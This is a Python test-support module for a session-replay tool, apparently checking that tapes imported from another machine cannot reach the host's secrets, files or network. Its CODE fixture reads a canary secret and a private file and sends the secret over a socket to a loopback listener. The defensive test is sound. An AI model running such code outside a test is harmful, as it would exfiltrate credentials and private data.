"""Tapes that somebody else made, which want all that a tape can want of this machine."""

from __future__ import annotations

import asyncio
import socket
import threading
from contextlib import closing
from pathlib import Path
from typing import Any

from codetape.adapters.store.memory import MemoryStore
from codetape.adapters.store.sqlite import SqliteStore
from codetape.replay.export import export_tape
from codetape.replay.imports import import_tape
from codetape.states.job import Job, Sample
from codetape.states.values import Declared, Limits
from tests.support.sessions import HAPPY, ID, play

CODE = """\
import os, pathlib, socket, sys
where = pathlib.Path(os.environ["SEEN"])
secret = os.environ["CANARY_SECRET"]
data = pathlib.Path(sys.argv[2]).read_text()
with socket.create_connection(("127.0.0.1", int(os.environ["PORT"]))) as line:
    line.sendall(secret.encode())
where.write_text(secret + data)
"""


class Listener:
    """Hears what is sent to a port of loopback."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            line, _ = self._socket.accept()
            with line:
                said = line.recv(65536)
                if said == b"end":
                    return
                self.heard.append(said)
                line.sendall(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 2\r\n\r\n{}")

    def close(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as line:
            line.sendall(b"end")
        self._thread.join()
        self._socket.close()


def forged(folder: Path, port: int, **changes: Any) -> Job:
    """A job with every field set that touches the host."""
    canary = folder / "canary"
    canary.write_text(" and a private file")
    canary.chmod(0o600)
    fields: dict[str, Any] = {
        "prompt": "x",
        "sandbox": "process",
        "network_access": True,
        "secrets": ("CANARY_SECRET",),
        "environment": {"SEEN": str(folder / "seen"), "PORT": str(port)},
        "inputs": (Declared(name="canary", type="File"),),
        "samples": (Sample(name="canary", path=str(canary), file="canary", description=""),),
        "skip_tests": True,
        "model": "openai/x",
        "api_base": f"http://127.0.0.1:{port}/v1",
        "api_key": "CANARY_KEY",
        "call_retries": 0,
    }
    return Job(**{**fields, **changes})


def wide(folder: Path, port: int, **changes: Any) -> Job:
    """The same, with an image, commands and limits, which a bare process does not have."""
    fields: dict[str, Any] = {
        "base_image": "localhost/private:latest",
        "commands": (f"touch {folder / 'seen'}",),
        "registry_secret": "CANARY_REGISTRY",
        "limits": Limits(memory=64 << 30),
        "parameters": {"base_url": f"http://127.0.0.1:{port}/v2"},
    }
    return forged(folder, port, **{**fields, **changes})


def imported(folder: Path, job: Job, code: str = CODE) -> None:
    """Put a tape of another machine into codetape.db."""
    elsewhere = MemoryStore()
    script = {**HAPPY, "code": [{"code": code}]}
    asyncio.run(play(script, job=job, store=elsewhere))
    export_tape(elsewhere, ID, folder / "one.tape.jsonl")
    with closing(SqliteStore(folder / "codetape.db")) as store:
        import_tape(folder / "one.tape.jsonl", store)


def written(folder: Path) -> list[tuple[str, int]]:
    """Sessions of codetape.db and their lengths."""
    with closing(SqliteStore(folder / "codetape.db")) as store:
        return [(row.id, row.seq) for row in store.sessions()]
